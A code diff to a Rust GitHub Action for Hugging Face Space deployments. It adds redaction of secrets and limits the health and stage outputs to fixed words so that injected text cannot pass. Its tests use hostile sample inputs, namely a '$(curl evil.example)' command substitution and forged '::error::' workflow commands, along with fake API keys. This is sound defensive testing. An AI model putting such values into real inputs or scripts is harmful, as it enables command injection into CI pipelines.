@@ -4,8 +4,9 @@
 
 use std::path::Path;
 
-use hf_deploy_core::report::DeployReport;
-use hf_deploy_core::{Error, SecretString};
+use hf_deploy_core::report::{DeployReport, HealthSummary};
+use hf_deploy_core::verify::Verdict;
+use hf_deploy_core::{Error, Redactor, RemoteText};
 use octocrab::models::repos::DeploymentStatusState;
 
 use super::joblog::{emit, warn_on_error};
@@ -29,9 +30,9 @@ pub(super) struct Deployed {
 /// Step 4.
 pub(super) async fn publish(run: &Run, job: &Deploy, deployed: &Deployed) -> anyhow::Result<()> {
     let report = &deployed.report;
-    let redact: Vec<SecretString> = job.options.settings.secrets.values().cloned().collect();
+    let redactor = crate::guard::redactor();
     write_outputs(&run.runner, report)?;
-    write_summary(&run.runner, report, &redact);
+    write_summary(&run.runner, report, &redactor);
     let Some(github) = &run.github else {
         return Ok(());
     };
@@ -48,23 +49,61 @@ pub(super) async fn publish(run: &Run, job: &Deploy, deployed: &Deployed) -> any
             head_sha: Some(job.sha.as_str()),
             run_url: run.run_url.as_deref(),
             marker: &marker,
-            redact: &redact,
+            redactor: &redactor,
         });
         post_comment(github, number, &marker, &body, true).await;
     }
     Ok(())
 }
 
-/// The action's outputs (`action.yml`), from the report.
+/// The words the `health` output takes (`action.yml`); empty when health was not checked.
+pub(super) const HEALTH_WORDS: [&str; 4] = ["healthy", "degraded", "unhealthy", "unknown"];
+
+/// The `health` output: one word of [`HEALTH_WORDS`], never the app's text. The app's word
+/// when it is one of them (in any case), else the word of its verdict (`ok`, `up`, `pass` are
+/// healthy; `warn`, `partial` degraded; anything else unhealthy); empty without an answer.
+pub(super) fn health_word(health: Option<&HealthSummary>) -> &'static str {
+    let Some(health) = health else {
+        return "";
+    };
+    match health.status.output_word(&HEALTH_WORDS, "") {
+        "" => match health.verdict() {
+            Verdict::Healthy => "healthy",
+            Verdict::Degraded => "degraded",
+            Verdict::Unhealthy => "unhealthy",
+        },
+        word => word,
+    }
+}
+
+/// The `stage` output: the stage's name when it is one word of capitals, digits and `_` (every
+/// stage the Hub names, `DELETED` for a removed preview), `UNKNOWN` for anything else the Hub
+/// sent; empty without a stage.
+pub(super) fn stage_word(stage: Option<&RemoteText>) -> String {
+    let Some(stage) = stage else {
+        return String::new();
+    };
+    let name = stage.as_data();
+    let word = !name.is_empty()
+        && name.len() <= 64
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
+    if word {
+        name.to_string()
+    } else {
+        "UNKNOWN".to_string()
+    }
+}
+
+/// The action's outputs (`action.yml`), from the report. `health` and `stage` are words of a
+/// fixed vocabulary, never text that the app or the Hub wrote (a later step may put an output
+/// in a script).
 pub(super) fn write_outputs(runner: &RunnerEnv, report: &DeployReport) -> anyhow::Result<()> {
     let Some(path) = runner.output.as_deref() else {
         return Ok(());
     };
-    let health = report
-        .health
-        .as_ref()
-        .map(|h| h.status.clone())
-        .unwrap_or_default();
+    let health = health_word(report.health.as_ref()).to_string();
     let outputs = [
         ("space-id", report.space_id.clone()),
         ("space-url", report.space_url.clone()),
@@ -73,7 +112,7 @@ pub(super) fn write_outputs(runner: &RunnerEnv, report: &DeployReport) -> anyhow
         ("health-url", report.health_url.clone()),
         ("commit-sha", report.commit_sha.clone().unwrap_or_default()),
         ("changed", report.changed.to_string()),
-        ("stage", report.stage.clone().unwrap_or_default()),
+        ("stage", stage_word(report.stage.as_ref())),
         ("health", health),
     ];
     let pairs: Vec<(&str, &str)> = outputs.iter().map(|(k, v)| (*k, v.as_str())).collect();
@@ -81,12 +120,13 @@ pub(super) fn write_outputs(runner: &RunnerEnv, report: &DeployReport) -> anyhow
     Ok(())
 }
 
-/// The report in the step summary, its log tail redacted.
-fn write_summary(runner: &RunnerEnv, report: &DeployReport, redact: &[SecretString]) {
+/// The report in the step summary, every value redacted by `redactor` (the run's).
+fn write_summary(runner: &RunnerEnv, report: &DeployReport, redactor: &Redactor) {
     let Some(path) = runner.step_summary.as_deref() else {
         return;
     };
-    if let Err(error) = files::append_summary(Path::new(path), &markdown::summary(report, redact)) {
+    if let Err(error) = files::append_summary(Path::new(path), &markdown::summary(report, redactor))
+    {
         emit(&gha::warning(
             "hf-deploy",
             &format!("no step summary: {error}"),
@@ -169,8 +209,8 @@ pub(super) async fn post_comment(
 
 #[cfg(test)]
 mod tests {
-    use hf_deploy_core::SpaceId;
-    use hf_deploy_core::report::samples::build_error;
+    use hf_deploy_core::report::samples::{build_error, text};
+    use hf_deploy_core::{SecretString, SpaceId};
     use hf_deploy_tests::fake_github::{FakeGitHub, Mode};
 
     use super::*;
@@ -189,11 +229,14 @@ mod tests {
             SecretString::new("AIzaSyD-gemini-secret-value"),
             SecretString::new("qdrant-api-key-987"),
         ];
+        let redactor = Redactor::builder().secrets(&secrets).build();
         let mut report = build_error();
         report.log_tail = vec![
-            "Traceback (most recent call last):".into(),
-            "  settings: GEMINI_API_KEY=AIzaSyD-gemini-secret-value QDRANT_API_KEY=qdrant-api-key-987".into(),
-            "RuntimeError: ```boom```".into(),
+            text("Traceback (most recent call last):"),
+            text(
+                "  settings: GEMINI_API_KEY=AIzaSyD-gemini-secret-value QDRANT_API_KEY=qdrant-api-key-987",
+            ),
+            text("RuntimeError: ```boom```"),
         ];
         let preview = SpaceId::parse("alice/rag-chatbot", hf_deploy_core::Field::Space)
             .expect("space")
@@ -206,7 +249,7 @@ mod tests {
             head_sha: Some("ec26c3e57ca3a959ca5aad62de7213c562f8c821"),
             run_url: Some("https://github.com/Codertocat/Hello-World/actions/runs/1"),
             marker: &marker,
-            redact: &secrets,
+            redactor: &redactor,
         });
         post_comment(&github, 2, &marker, &body, true).await;
         let created = api::create_deployment(
@@ -251,5 +294,36 @@ mod tests {
             fake.comment_with(&marker)
                 .is_some_and(|b| b.contains("GEMINI_API_KEY=***"))
         );
+    }
+
+    #[test]
+    fn the_health_output_is_one_word_of_its_vocabulary() {
+        let health = |status: &str| HealthSummary {
+            status: text(status),
+            services: Default::default(),
+        };
+        for (status, word) in [
+            ("healthy", "healthy"),
+            ("Degraded", "degraded"),
+            ("unhealthy", "unhealthy"),
+            ("unknown", "unknown"),
+            ("ok", "healthy"),
+            ("warn", "degraded"),
+            ("down", "unhealthy"),
+            ("healthy\n::error file=x::forged", "unhealthy"),
+            ("$(curl evil.example)", "unhealthy"),
+        ] {
+            assert_eq!(health_word(Some(&health(status))), word, "{status:?}");
+        }
+        assert_eq!(health_word(None), "");
+    }
+
+    #[test]
+    fn the_stage_output_is_one_word() {
+        assert_eq!(stage_word(Some(&text("RUNNING"))), "RUNNING");
+        assert_eq!(stage_word(Some(&text("HIBERNATING_2"))), "HIBERNATING_2");
+        assert_eq!(stage_word(Some(&text("X\n::error::forged"))), "UNKNOWN");
+        assert_eq!(stage_word(Some(&text("running"))), "UNKNOWN");
+        assert_eq!(stage_word(None), "");
     }
 }
